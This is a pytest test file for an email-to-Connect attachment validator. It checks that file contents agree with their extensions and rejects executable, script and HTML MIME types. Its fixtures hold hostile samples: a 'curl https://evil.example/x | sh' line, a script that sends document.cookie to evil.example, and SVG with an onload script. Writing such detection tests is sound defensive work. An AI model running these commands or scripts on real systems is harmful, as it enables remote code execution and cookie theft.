"""Which contents pass under each extension Connect accepts, and which declared types contradict one."""

from __future__ import annotations

import codecs
import io
import zipfile

import pytest

from ses_to_connect.file_types import STORED_TYPE, content_agrees, declared_type_agrees
from ses_to_connect.limits import ALLOWED_ATTACHMENT_EXTENSIONS

PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"This program cannot be run in DOS mode"
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8)
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(8)
SHELL = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
HTML = b"<!DOCTYPE html><html><body><script>fetch('https://evil.example/'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
RTF = b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}}Hello}"
WAV = b"RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00"
MOV = b"\x00\x00\x00\x14ftypqt  \x00\x00\x02\x00qt  "
MP4 = b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2"
OLD_MOV = b"\x00\x00\x01\x00moov\x00\x00\x00\x6cmvhd"
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"
HEIF_BY_COMPATIBLE_BRAND = b"\x00\x00\x00\x1cftypmsf1\x00\x00\x00\x00msf1hevcmif1"
TEXT = "name;amount\r\nMüller;12,50\r\n".encode()


def package(*names: str, prefix: bytes = b"") -> bytes:
    """A ZIP holding ``names`` (each a small file), after ``prefix``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in names:
            archive.writestr(name, "<x/>")
    return prefix + buffer.getvalue()


DOCX = package("[Content_Types].xml", "_rels/.rels", "word/document.xml", "docProps/core.xml")
XLSX = package("[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/worksheets/sheet1.xml")
PPTX = package("[Content_Types].xml", "_rels/.rels", "ppt/presentation.xml", "ppt/slides/slide1.xml")
DOCM = package("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")
JAR = package("META-INF/MANIFEST.MF", "com/evil/Main.class")

# (extension, content): each extension with every kind of content that passes under it.
AGREEING = [
    (".pdf", PDF),
    (".pdf", b"\r\n\r\n" + PDF),  # readers take the header anywhere in the first 1,024 bytes
    (".pdf", b"%PDF\r\n"),
    *((extension, image) for extension in (".jpg", ".jpeg", ".jfif", ".png") for image in (JPEG, PNG)),
    (".heic", HEIC),
    (".heic", HEIF_BY_COMPATIBLE_BRAND),
    *((extension, movie) for extension in (".mov", ".mp4") for movie in (MOV, MP4, OLD_MOV)),
    (".wav", WAV),
    (".wav", b"RF64\xff\xff\xff\xffWAVEds64"),
    (".docx", DOCX),
    (".xlsx", XLSX),
    (".pptx", PPTX),
    # OLE2: Office 97-2003 files, and password-protected OOXML ones under the new names
    *((extension, OLE2) for extension in (".doc", ".docx", ".xls", ".xlsx", ".ppt", ".pptx")),
    (".doc", DOCX),  # a package saved with the old name: Word opens it by its content
    (".xls", XLSX),
    (".ppt", PPTX),
    (".doc", RTF),
    (".xls", TEXT),  # exports that Excel opens: tab or comma separated text, HTML tables
    (".xls", b"<html><body><table><tr><td>1</td></tr></table></body></html>"),
    (".doc", b"<html xmlns:o='urn:schemas-microsoft-com:office:office'><body><p>Letter</p></body></html>"),
    (".rtf", RTF),
    (".rtf", codecs.BOM_UTF8 + b"\r\n" + RTF),
    (".txt", TEXT),
    (".csv", TEXT),
    (".txt", "Grüße".encode("latin-1")),
    (".txt", codecs.BOM_UTF8 + "Grüße\tund\x0cmehr".encode()),
    (".txt", b"DOS text ends with SUB\r\n\x1a"),
    (".txt", codecs.BOM_UTF16_LE + "name\tamount\r\nMüller\t12\r\n".encode("utf-16-le")),
    (".csv", codecs.BOM_UTF16_BE + "a,b\r\n1,2\r\n".encode("utf-16-be")),
    (".txt", "Grüße aus Köln\r\n".encode("utf-16-le")),  # UTF-16 without its byte-order mark
    (".csv", "a;b\r\n".encode("utf-16-be")),
    (".txt", b"5 < 6 and <b is not a tag"),
    (".csv", b"MZ code,amount\r\nMZ-1,3\r\n"),  # the letters MZ, in text, are text
]

# (extension, content, what it really is)
MISMATCHED = [
    (".pdf", PE + PDF, "a Windows program with a PDF header inside"),
    (".pdf", ELF, "a Linux program"),
    (".pdf", HTML + PDF, "an HTML page with a PDF header inside"),
    (".pdf", b"%" + b" " * 1024 + b"%PDF-1.4", "a PDF header after the first 1,024 bytes"),
    (".pdf", PNG, "an image"),
    (".png", SVG, "SVG with script"),
    (".png", HTML, "HTML with script"),
    (".jpg", b"GIF89a\x01\x00\x01\x00", "a GIF"),
    (".jpeg", PE, "a Windows program"),
    (".heic", MP4, "a video"),
    (".heic", JPEG, "a JPEG"),
    (".mov", MACH_O, "a macOS program"),
    (".mp4", b"\x1aE\xdf\xa3", "a Matroska video"),
    (".wav", b"RIFF\x24\x00\x00\x00AVI LIST", "an AVI video"),
    (".docx", JAR, "a Java program"),
    (".docx", DOCM, "a macro-enabled document"),
    (".docx", XLSX, "a workbook"),
    (".xlsx", DOCX, "a document"),
    (".pptx", package("[Content_Types].xml", "ppt/presentation.xml", "ppt/vbaProject.bin"), "macros"),
    (".docx", package("word/document.xml"), "a package without [Content_Types].xml"),
    (".docx", package("[Content_Types].xml", "word/document.xml", prefix=PE), "a self-extracting program"),
    (".docx", b"PK\x03\x04" + bytes(40), "a damaged ZIP without a directory"),
    (".docx", RTF, "RTF"),
    (".doc", PE, "a Windows program"),
    (".doc", HTML, "HTML with script"),
    (".xls", b"<table><tr><td><SCRIPT>alert(1)</SCRIPT></td></tr></table>", "HTML with script"),
    (".xls", codecs.BOM_UTF16_LE + "<html><script>x</script></html>".encode("utf-16-le"), "UTF-16 script"),
    (".ppt", TEXT, "text"),
    (".ppt", DOCX, "a document"),
    (".rtf", TEXT, "text"),
    (".rtf", PE, "a Windows program"),
    (".txt", PE, "a Windows program"),
    (".txt", ELF, "a Linux program"),
    (".txt", SHELL, "a shell script"),
    (".csv", b"\r\n  " + SHELL, "a shell script after blank lines"),
    (".txt", HTML, "HTML with script"),
    (".txt", b"  <html><body>hi</body></html>", "an HTML page"),
    (".txt", SVG, "SVG"),
    (".csv", b'<?xml version="1.0"?><svg/>', "XML"),
    (".txt", b"text\x00with a NUL byte", "binary data"),
    (".csv", PDF.replace(b"\n", b"\x01"), "binary data"),
    (".txt", codecs.BOM_UTF16_LE + "odd".encode("utf-16-le") + b"!", "UTF-16 cut in a character"),
    (".txt", codecs.BOM_UTF16_LE + "bell \x07".encode("utf-16-le"), "UTF-16 with a control character"),
    (".txt", codecs.BOM_UTF16_BE + "<html><body>".encode("utf-16-be"), "UTF-16 HTML"),
    (".txt", "<html><body>".encode("utf-16-le"), "UTF-16 HTML without a byte-order mark"),
    (".txt", b"\x00\x00\x00\x01" + bytes(range(256)), "binary data read as UTF-16"),
    (".csv", PE[:2] + b"\x00" + PE[3:], "a Windows program read as UTF-16"),
    (".exe", PE, "an extension Connect does not take"),
]


def test_every_accepted_extension_has_a_stored_type_and_a_content_rule() -> None:
    assert set(STORED_TYPE) == ALLOWED_ATTACHMENT_EXTENSIONS
    assert {extension for extension, _ in AGREEING} == ALLOWED_ATTACHMENT_EXTENSIONS
    assert STORED_TYPE[".jpg"] == STORED_TYPE[".jfif"] == "image/jpeg"
    assert STORED_TYPE[".txt"] == "text/plain"


@pytest.mark.parametrize(("extension", "content"), AGREEING)
def test_content_of_the_kind_the_extension_names_passes(extension: str, content: bytes) -> None:
    assert content_agrees(extension, content)


@pytest.mark.parametrize(("extension", "content", "really"), MISMATCHED)
def test_content_of_another_kind_is_a_mismatch(extension: str, content: bytes, really: str) -> None:
    assert not content_agrees(extension, content), really


def test_a_large_text_file_is_read_in_one_pass_and_a_late_binary_byte_is_found() -> None:
    text = b"a,b,c\r\n" * 2_000_000  # 14 MB
    assert content_agrees(".csv", text)
    assert not content_agrees(".csv", text + b"\x00")
    utf16 = codecs.BOM_UTF16_LE + "a;b\r\n".encode("utf-16-le") * 1_000_000  # several decoder chunks
    assert content_agrees(".txt", utf16)
    assert not content_agrees(".txt", utf16 + "\x00".encode("utf-16-le"))


def test_a_package_read_only_up_to_its_entry_limit() -> None:
    """A ZIP directory of many entries is not read past 10,000: the parts Office needs come first."""
    media = (f"word/media/{n}.bin" for n in range(10_050))
    many = package("[Content_Types].xml", "word/document.xml", *media)
    assert content_agrees(".docx", many)
    late = package(*(f"media/{n}.bin" for n in range(10_000)), "[Content_Types].xml", "word/document.xml")
    assert not content_agrees(".docx", late)


@pytest.mark.parametrize(
    "declared",
    [None, "application/octet-stream", "application/pdf", "image/png", "text/plain", "application/pédf"],
)
def test_passive_generic_unknown_and_absent_declared_types_agree(declared: str | None) -> None:
    """The content is checked against the name and the stored type is the name's: a wrong passive type
    (image/png on a bank's PDF statement, as in the corpus) is the sender's mistake, not an attack."""
    assert declared_type_agrees(declared)


@pytest.mark.parametrize(
    "declared",
    [
        "application/x-msdownload",
        "application/x-msdos-program",
        "application/x-executable",
        "application/x-sh",
        "application/java-archive",
        "application/javascript",
        "text/html",
        "image/svg+xml",
        "application/xhtml+xml",
        "application/hta",
    ],
)
def test_program_script_and_page_types_contradict_every_extension(declared: str) -> None:
    assert not declared_type_agrees(declared)
